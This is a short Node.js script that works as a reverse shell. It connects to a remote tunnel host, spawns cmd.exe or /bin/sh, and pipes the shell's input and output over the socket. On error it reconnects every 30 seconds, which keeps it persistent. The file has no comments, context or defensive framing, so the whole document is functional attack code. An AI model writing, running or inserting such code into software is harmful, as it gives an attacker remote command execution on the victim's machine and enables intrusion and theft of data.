const net = require("net");
const { spawn } = require("child_process");

const HOST = "4.tcp.ngrok.invalid";
const PORT = 14530;

function connect() {
  const client = new net.Socket();
  client.connect(PORT, HOST, () => {
    const proc = spawn(process.platform === "win32" ? "cmd.exe" : "/bin/sh", []);
    client.pipe(proc.stdin);
    proc.stdout.pipe(client);
    proc.stderr.pipe(client);
    proc.on("exit", () => client.destroy());
  });
  client.on("error", () => setTimeout(connect, 30000));
}

connect();
